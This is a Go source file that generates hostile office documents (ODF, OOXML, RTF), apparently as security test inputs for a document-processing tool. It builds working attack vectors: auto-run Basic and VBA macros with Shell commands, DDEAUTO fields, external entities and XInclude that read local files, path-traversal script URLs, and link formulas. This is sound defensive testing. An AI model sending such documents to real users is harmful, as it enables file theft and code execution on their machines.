package hostile

import (
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"io"
	"strings"
	"unicode/utf16"

	"github.com/filewright/filewright/fileops"
	"github.com/filewright/filewright/internal/compound"
)

// hostileOffice returns documents, sheets and slides that link to t in every way
// that their formats support, or have macros that access t.
func hostileOffice(t target) []*fileops.File {
	var out []*fileops.File
	add := func(name, content string) { out = append(out, fileops.Bytes(name, []byte(content))) }

	// OpenDocument: flat files, in which links cannot be relative to a package, and
	// packages.
	add("links.fodt", odfDocument("text", t.repeat(`<style:style style:name="p" style:family="paragraph"><style:paragraph-properties><style:background-image xlink:href="@" xlink:type="simple" xlink:actuate="onLoad"/></style:paragraph-properties></style:style>
<text:list-style style:name="l"><text:list-level-style-image text:level="1" xlink:href="@" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></text:list-style>`),
		t.repeat(`<text:p><draw:frame svg:width="1cm" svg:height="1cm"><draw:plugin xlink:href="@" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad" draw:mime-type="application/vnd.sun.star.media"/></draw:frame>
<draw:frame svg:width="1cm" svg:height="1cm"><draw:floating-frame xlink:href="@" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>
<draw:frame svg:width="1cm" svg:height="1cm"><draw:applet xlink:href="@" draw:code="X" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>
<draw:frame svg:width="1cm" svg:height="1cm"><draw:object-ole xlink:href="@" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>
<text:list text:style-name="l"><text:list-item><text:p text:style-name="p"><text:a xlink:href="@" xlink:type="simple" office:target-frame-name="_self">x</text:a></text:p></text:list-item></text:list>`)))
	add("template.fodt", `<?xml version="1.0"?><office:document `+odfNamespaces+` office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.text"><office:meta>`+
		t.repeat(`<meta:template xlink:type="simple" xlink:actuate="onRequest" xlink:href="@" meta:date="2001-01-01T00:00:00"/><meta:auto-reload xlink:href="@" meta:delay="PT0S"/>`)+
		`</office:meta><office:font-face-decls>`+t.repeat(`<style:font-face style:name="f" svg:font-family="f"><svg:font-face-src><svg:font-face-uri xlink:href="@" xlink:type="simple"><svg:font-face-format svg:string="truetype"/></svg:font-face-uri></svg:font-face-src></style:font-face>`)+
		`</office:font-face-decls><office:body><office:text>`+
		t.repeat(`<text:dde-connection-decls><text:dde-connection-decl office:name="d" office:dde-application="soffice" office:dde-topic="@" office:dde-item="x" office:automatic-update="true"/></text:dde-connection-decls><text:p><text:dde-connection text:connection-name="d">x</text:dde-connection></text:p>`)+
		`</office:text></office:body></office:document>`)
	sheet := t.repeat(`<table:table table:name="t"><office:dde-source office:dde-application="soffice" office:dde-topic="@" office:dde-item="A1" office:automatic-update="true"/><table:table-row><table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;@&quot;;&quot;A1&quot;)" office:value-type="string"/>
<table:table-cell table:formula="of:=FILTERXML(WEBSERVICE(&quot;@&quot;);&quot;//x&quot;)" office:value-type="string"/><table:table-cell table:formula="of:=HYPERLINK(&quot;@&quot;)" office:value-type="string"/>
<table:table-cell><table:cell-range-source table:name="x" xlink:href="@" xlink:type="simple" table:filter-name="calc8" table:last-column-spanned="1" table:last-row-spanned="1" table:refresh-delay="PT1S"/></table:table-cell></table:table-row></table:table>`) +
		t.repeat(`<table:dde-links><table:dde-link><office:dde-source office:dde-application="soffice" office:dde-topic="@" office:dde-item="A1"/><table:table><table:table-row><table:table-cell/></table:table-row></table:table></table:dde-link></table:dde-links>`)
	add("links.fods", odfDocument("spreadsheet", "", sheet))
	slides := t.repeat(`<draw:page draw:name="s"><presentation:sound xlink:href="@" xlink:type="simple" xlink:show="new" xlink:actuate="onLoad"/><draw:frame svg:width="5cm" svg:height="5cm"><draw:image xlink:href="@" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>
<draw:frame svg:width="5cm" svg:height="5cm"><draw:plugin xlink:href="@" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad" draw:mime-type="video/mp4"/></draw:frame><draw:rect svg:width="1cm" svg:height="1cm"><office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="execute" xlink:href="@" xlink:type="simple"/></office:event-listeners></draw:rect></draw:page>`)
	add("links.fodp", odfDocument("presentation", "", slides))
	for ext, part := range map[string][2]string{
		"odt": {"text", t.repeat(`<text:p><draw:frame svg:width="5cm" svg:height="5cm"><draw:image xlink:href="@" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame><draw:frame svg:width="5cm" svg:height="5cm"><draw:image xlink:href="../../../../../../../../` + strings.TrimPrefix(t.path, "/") + `" xlink:type="simple"/></draw:frame></text:p><text:section text:name="s"><text:section-source xlink:href="@" xlink:type="simple"/><text:p/></text:section>`)},
		"ods": {"spreadsheet", sheet},
		"odp": {"presentation", slides},
	} {
		content := strings.NewReplacer("office:document ", "office:document-content ", "office:document>", "office:document-content>").Replace(odfDocument(part[0], "", part[1]))
		add("links."+ext, odfPackage(part[0], content))
		// The entity declaration precedes the root element.
		add("entity."+ext, odfPackage(part[0], `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "`+t.file+`"><!ENTITY f SYSTEM "`+t.base+`/e"><!ENTITY % p SYSTEM "`+t.base+`/p">%p;]>`+
			strings.Replace(strings.Replace(content, `<?xml version="1.0" encoding="UTF-8"?>`, "", 1), "</office:body>", "", 1)+`<text:p>&e;&f;</text:p></office:body></office:document-content>`))
	}

	// Macros: of the document and of the program, in two languages. They run when
	// the document is opened, unless the program prevents that.
	basic := `Sub Main
  Open "` + t.path + `" For Input As #1
  Shell "cat ` + t.path + `"
  f = CreateUnoService("com.sun.star.ucb.SimpleFileAccess")
  f.openFileRead("` + t.base + `/macro")
End Sub
Sub AutoOpen
  Main
End Sub
`
	for name, listener := range map[string]string{
		"basic.fodt":  "vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document",
		"python.fodt": "vnd.sun.star.script:../../../../../../../../../.." + t.path + "$main?language=Python&amp;location=share",
		"logo.fodt":   "vnd.sun.star.script:LibreLogo|LibreLogo.py$run?language=Python&amp;location=share",
		"slot.fodt":   ".uno:Open?URL:string=" + t.base + "/slot",
		"macro.fodt":  "macro:///Standard.Module1.Main",
	} {
		add(name, `<?xml version="1.0"?><office:document `+odfNamespaces+` office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.text"><office:scripts><office:script script:language="ooo:Basic"><ooo:libraries xmlns:ooo="http://openoffice.org/2004/office"><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="Module1"><ooo:source-code>`+
			strings.ReplaceAll(basic, `"`, "&quot;")+`</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script><office:event-listeners>`+
			strings.ReplaceAll(`<script:event-listener script:language="ooo:script" script:event-name="dom:@" xlink:href="`+listener+`" xlink:type="simple"/>`, "@", "load")+
			`<script:event-listener script:language="ooo:script" script:event-name="office:view-created" xlink:href="`+listener+`" xlink:type="simple"/><script:event-listener script:language="ooo:script" script:event-name="office:load-finished" xlink:href="`+listener+`" xlink:type="simple"/>`+
			`</office:event-listeners></office:scripts><office:body><office:text><text:p>`+`print(open("`+t.path+`").read())`+`</text:p></office:text></office:body></office:document>`)
	}
	macros := vba("Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\nDocument_Open\r\nEnd Sub\r\nSub Document_Open()\r\nOpen \"" + t.path + "\" For Input As #1\r\nShell \"cat " + t.path + "\"\r\nEnd Sub\r\nSub Workbook_Open()\r\nDocument_Open\r\nEnd Sub\r\n")
	add("macros.docx", ooxml("docx", "application/vnd.ms-word.document.macroEnabled.main+xml", `<w:p><w:r><w:t>x</w:t></w:r></w:p>`,
		[]string{"vbaProject|http://schemas.microsoft.com/office/2006/relationships/vbaProject|vbaProject.bin"}, "word/vbaProject.bin", macros))
	add("macros.xlsx", ooxml("xlsx", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", `<sheet name="s" sheetId="1" r:id="sheet"/>`,
		[]string{"vbaProject|http://schemas.microsoft.com/office/2006/relationships/vbaProject|vbaProject.bin", "sheet|" + officeRel + "worksheet|sheet.xml"},
		"xl/vbaProject.bin", macros, "xl/sheet.xml", `<worksheet xmlns="`+spreadsheetML+`"><sheetData/></worksheet>`))

	// Office Open XML: every kind of relationship that may have an external target.
	external := func(kinds ...string) (rels []string, ids map[string][]string) {
		ids = make(map[string][]string)
		for _, k := range kinds {
			for i, s := range t.each() {
				id := k + string(rune('a'+i))
				rels = append(rels, id+"|"+officeRel+k+"|!"+s)
				ids[k] = append(ids[k], id)
			}
		}
		return rels, ids
	}
	per := func(ids []string, pattern string) string {
		var b strings.Builder
		for _, id := range ids {
			b.WriteString(strings.ReplaceAll(pattern, "@", id))
		}
		return b.String()
	}
	r, ids := external("image", "oleObject", "aFChunk", "subDocument", "hyperlink", "frame", "video")
	add("links.docx", ooxml("docx", "", per(ids["aFChunk"], `<w:altChunk r:id="@"/>`)+per(ids["subDocument"], `<w:subDoc r:id="@"/>`)+
		per(ids["image"], `<w:p><w:r><w:pict><v:shape style="width:50pt;height:50pt"><v:imagedata r:id="@" r:href="@"/></v:shape></w:pict></w:r></w:p>`)+
		per(ids["oleObject"], `<w:p><w:r><w:object><v:shape id="s" style="width:50pt;height:50pt"/><o:OLEObject Type="Link" ProgID="Word.Document.12" ShapeID="s" DrawAspect="Content" r:id="@" UpdateMode="Always"><o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject></w:object></w:r></w:p>`)+
		per(ids["hyperlink"], `<w:p><w:hyperlink r:id="@"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>`)+
		t.repeat(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO soffice "@" A1 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;@&quot; \d "/></w:p><w:p><w:fldSimple w:instr=" LINK Word.Document.12 &quot;@&quot; x \a "/></w:p><w:p><w:fldSimple w:instr=" RD &quot;@&quot; "/></w:p>`), r))
	r, ids = external("externalLinkPath", "oleObject", "image", "connections")
	add("links.xlsx", ooxml("xlsx", "", `<sheet name="s" sheetId="1" r:id="sheet"/>`,
		[]string{"sheet|" + officeRel + "worksheet|sheet.xml", "ext|" + officeRel + "externalLink|ext.xml", "con|" + officeRel + "connections|connections.xml"},
		"xl/sheet.xml", `<worksheet xmlns="`+spreadsheetML+`" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheetData><row r="1">`+
			t.repeat(`<c><f>[1]Sheet1!A1</f></c><c t="str"><f>_xlfn.WEBSERVICE("@")</f></c><c><f>'@'#$Sheet1.A1</f></c><c><f>soffice|'@'!A1</f></c><c><f>HYPERLINK("@")</f></c><c><f>_xlfn.IMAGE("@")</f></c>`)+
			`</row></sheetData><drawing r:id="d"/></worksheet>`,
		"xl/_rels/sheet.xml.rels", hostileRels(`<Relationship Id="d" Type="`+officeRel+`drawing" Target="drawing.xml"/>`),
		"xl/drawing.xml", `<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">`+
			per(ids["image"], `<xdr:oneCellAnchor><xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:ext cx="914400" cy="914400"/><xdr:pic><xdr:nvPicPr><xdr:cNvPr id="1" name="p"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip r:link="@"/><a:stretch/></xdr:blipFill><xdr:spPr><a:prstGeom prst="rect"/></xdr:spPr></xdr:pic><xdr:clientData/></xdr:oneCellAnchor>`)+`</xdr:wsDr>`,
		"xl/_rels/drawing.xml.rels", relationships(r),
		"xl/ext.xml", `<externalLink xmlns="`+spreadsheetML+`" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">`+per(ids["externalLinkPath"][:1], `<externalBook r:id="@"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>`)+
			`<ddeLink ddeService="soffice" ddeTopic="`+t.path+`"><ddeItems><ddeItem name="A1" advise="1"/></ddeItems></ddeLink>`+per(ids["oleObject"][:1], `<oleLink r:id="@" progId="Package"/>`)+`</externalLink>`,
		"xl/_rels/ext.xml.rels", relationships(r),
		"xl/connections.xml", `<connections xmlns="`+spreadsheetML+`">`+t.repeat(`<connection id="1" name="c" type="4" refreshedVersion="6" refreshOnLoad="1"><webPr url="@" xml="1"/></connection><connection id="2" name="d" type="1" refreshOnLoad="1"><dbPr connection="DRIVER=x;DBQ=@" command="select 1"/></connection><connection id="3" name="t" type="6" refreshOnLoad="1"><textPr sourceFile="@"/></connection>`)+`</connections>`))
	r, ids = external("image", "video", "audio", "oleObject", "hyperlink", "slideMaster")
	add("links.pptx", ooxml("pptx", "", `<p:sldId id="256" r:id="slide"/>`, []string{"slide|" + officeRel + "slide|slide.xml"},
		"ppt/slide.xml", `<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>`+
			per(ids["image"], `<p:pic><p:nvPicPr><p:cNvPr id="2" name="p"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:link="@"/><a:stretch/></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"/></p:spPr></p:pic>`)+
			per(ids["video"], `<p:pic><p:nvPicPr><p:cNvPr id="3" name="v"/><p:cNvPicPr/><p:nvPr><a:videoFile r:link="@"/></p:nvPr></p:nvPicPr><p:blipFill><a:blip r:link="@"/></p:blipFill><p:spPr/></p:pic>`)+
			per(ids["oleObject"], `<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name="o"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj r:id="@" progId="Word.Document.12"><p:link updateAutomatic="1"/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>`)+
			`</p:spTree></p:cSld></p:sld>`,
		"ppt/_rels/slide.xml.rels", relationships(r)))
	for ext, doc := range map[string]string{
		"docx": `<w:p><w:r><w:t>&e;&f;</w:t></w:r></w:p>`, "xlsx": `<sheet name="&e;&f;" sheetId="1" r:id="sheet"/>`, "pptx": `<p:sldId id="256" r:id="slide"/>&e;&f;`,
	} {
		add("parts-entity."+ext, ooxml(ext, "", `<!DOCTYPE d [<!ENTITY e SYSTEM "`+t.file+`"><!ENTITY f SYSTEM "`+t.base+`/e">]>`+doc, nil))
		add("xinclude."+ext, ooxml(ext, "", strings.ReplaceAll(t.repeat(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="@"/>`), "&", "&amp;")+strings.ReplaceAll(doc, "&e;&f;", ""), nil))
	}

	add("links.rtf", `{\rtf1\ansi`+t.repeat(`{\field{\*\fldinst LINK Word.Document.8 "@" "" \\a \\p}{\fldrslt x}}{\field{\*\fldinst DDEAUTO soffice "@" A1}{\fldrslt x}}{\field{\*\fldinst HYPERLINK "@"}{\fldrslt x}}{\field{\*\fldinst IMPORT "@"}{\fldrslt x}}{\field{\*\fldinst RD "@"}{\fldrslt x}}{\subdocument0}{\*\nextfile @}`)+
		`{\filetbl{\file\fid0\frelative0\fvaliddos `+t.path+`}}{\object\objautlink\objupdate{\*\objclass Word.Document.8}{\*\objdata `+hex.EncodeToString([]byte(oleLink(t.base+"/ole")))+`}{\result x}}{\object\objemb\objupdate{\*\objclass Package}{\*\objdata `+hex.EncodeToString([]byte(oleLink(t.path)))+`}{\result x}}\par}`)
	return out
}

const (
	officeRel     = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	spreadsheetML = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
	odfNamespaces = `xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" xmlns:xlink="http://www.w3.org/1999/xlink"`
)

// odfDocument returns a flat OpenDocument file with automatic styles.
func odfDocument(kind, styles, body string) string {
	return `<?xml version="1.0" encoding="UTF-8"?><office:document ` + odfNamespaces + ` office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.` + kind + `"><office:automatic-styles>` + styles +
		`</office:automatic-styles><office:body><office:` + kind + `>` + body + `</office:` + kind + `></office:body></office:document>`
}

func odfPackage(kind, content string) string {
	mime := "application/vnd.oasis.opendocument." + kind
	return Zip("mimetype", mime, "content.xml", content,
		"META-INF/manifest.xml", `<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="`+mime+`"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`)
}

// relationships returns a part that lists relationships: "id|type|target". A !
// precedes an external target.
func relationships(all []string) string {
	var b strings.Builder
	for _, r := range all {
		f := strings.SplitN(r, "|", 3)
		mode := ""
		if strings.HasPrefix(f[2], "!") {
			f[2], mode = f[2][1:], ` TargetMode="External"`
		}
		b.WriteString(`<Relationship Id="` + f[0] + `" Type="` + f[1] + `" Target="` + f[2] + `"` + mode + `/>`)
	}
	return hostileRels(b.String())
}

// ooxml returns a document, workbook or presentation with main as content.
// content is the media type of its main part, or "" for the default.
func ooxml(ext, content, main string, rels []string, parts ...string) string {
	kind := map[string][5]string{
		"docx": {"word", "document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
			`<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>`, `</w:body></w:document>`},
		"xlsx": {"xl", "workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
			`<workbook xmlns="` + spreadsheetML + `" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>`, `</sheets><externalReferences><externalReference r:id="ext"/></externalReferences></workbook>`},
		"pptx": {"ppt", "presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
			`<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><p:sldIdLst>`, `</p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>`},
	}[ext]
	if content == "" {
		content = kind[2]
	}
	types := map[string]string{"sheet.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml", "ext.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
		"drawing.xml": "application/vnd.openxmlformats-officedocument.drawing+xml", "slide.xml": "application/vnd.openxmlformats-officedocument.presentationml.slide+xml",
		"connections.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml", "sharedStrings.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml",
		"vbaProject.bin": "application/vnd.ms-office.vbaProject"}
	overrides := ""
	for i := 0; i < len(parts); i += 2 {
		if m := types[parts[i][strings.LastIndexByte(parts[i], '/')+1:]]; m != "" {
			overrides += `<Override PartName="/` + parts[i] + `" ContentType="` + m + `"/>`
		}
	}
	doctype := ""
	if strings.HasPrefix(main, "<!DOCTYPE") { // must precede the root element
		i := strings.Index(main, "]>") + 2
		doctype, main = main[:i], main[i:]
	}
	return Zip(append([]string{
		"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/` + kind[0] + "/" + kind[1] + `" ContentType="` + content + `"/>` + overrides + `</Types>`,
		"_rels/.rels", relationships([]string{"r1|" + officeRel + "officeDocument|" + kind[0] + "/" + kind[1]}),
		kind[0] + "/" + kind[1], `<?xml version="1.0"?>` + doctype + kind[3] + main + kind[4],
		kind[0] + "/_rels/" + kind[1] + ".rels", relationships(rels),
	}, parts...)...)
}

// oleLink returns an OLE 1.0 object that is a link ([MS-OLEDS] 2.2.6).
func oleLink(to string) string {
	var b bytes.Buffer
	text := func(s string) {
		binary.Write(&b, binary.LittleEndian, uint32(len(s)+1))
		b.WriteString(s + "\x00")
	}
	binary.Write(&b, binary.LittleEndian, []uint32{0x0501, 1})
	text("Word.Document.8")
	text(to)
	text("")
	binary.Write(&b, binary.LittleEndian, []uint32{0, 0, 0})
	return b.String()
}

// vba returns a project of one module ([MS-OVBA]).
func vba(source string) string {
	var dir bytes.Buffer
	record := func(id uint16, data string) {
		binary.Write(&dir, binary.LittleEndian, id)
		binary.Write(&dir, binary.LittleEndian, uint32(len(data)))
		dir.WriteString(data)
	}
	wide := func(s string) string {
		var b bytes.Buffer
		binary.Write(&b, binary.LittleEndian, utf16.Encode([]rune(s)))
		return b.String()
	}
	u16 := func(n uint16) string { return string([]byte{byte(n), byte(n >> 8)}) }
	u32 := func(n uint32) string { return string(binary.LittleEndian.AppendUint32(nil, n)) }
	record(1, u32(1))                                  // system
	record(2, u32(0x409))                              // language
	record(0x14, u32(0x409))                           //
	record(3, u16(1252))                               // code page
	record(4, "Project")                               // name
	record(5, "")                                      // description
	record(0x40, "")                                   //
	record(6, "")                                      // help
	record(0x3d, "")                                   //
	record(7, u32(0))                                  // help context
	record(8, u32(0))                                  // flags
	dir.WriteString(u16(9) + u32(4) + u32(1) + u16(1)) // version
	record(0xc, "")                                    // constants
	record(0x3c, "")                                   //
	record(0xf, u16(1))                                // modules
	record(0x13, u16(0xffff))                          // cookie
	const module = "ThisDocument"
	record(0x19, module)
	record(0x47, wide(module))
	record(0x1a, module) // stream
	record(0x32, wide(module))
	record(0x1c, "")
	record(0x48, "")
	record(0x31, u32(0)) // offset of the source
	record(0x1e, u32(0))
	record(0x2c, u16(0xffff))
	record(0x22, "") // a document module
	record(0x2b, "")
	record(0x10, "")
	stream := func(name, s string) *compound.Node {
		return &compound.Node{Name: name, Size: int64(len(s)), Content: func(w io.Writer) error {
			_, err := io.WriteString(w, s)
			return err
		}}
	}
	var b bytes.Buffer
	err := compound.Write(&b, []*compound.Node{
		{Name: "VBA", Children: []*compound.Node{
			stream("dir", literal(dir.String())), stream(module, literal(source)), stream("_VBA_PROJECT", "\xcc\x61\xff\xff\x00\x00\x00"),
		}},
		stream("PROJECT", "ID=\"{00000000-0000-0000-0000-000000000000}\"\r\nDocument="+module+"/&H00000000\r\nName=\"Project\"\r\n"),
	})
	if err != nil {
		panic(err) // impossible: writes only to memory
	}
	return b.String()
}

// literal encodes s in the format of [MS-OVBA] 2.4.1, without compression.
func literal(s string) string {
	out := []byte{1}
	for len(s) > 0 {
		n := min(len(s), 3600)
		var chunk []byte
		for i := 0; i < n; i += 8 {
			chunk = append(append(chunk, 0), s[i:min(i+8, n)]...)
		}
		out = binary.LittleEndian.AppendUint16(out, uint16(len(chunk)+2-3)|0xb000)
		out = append(out, chunk...)
		s = s[n:]
	}
	return string(out)
}
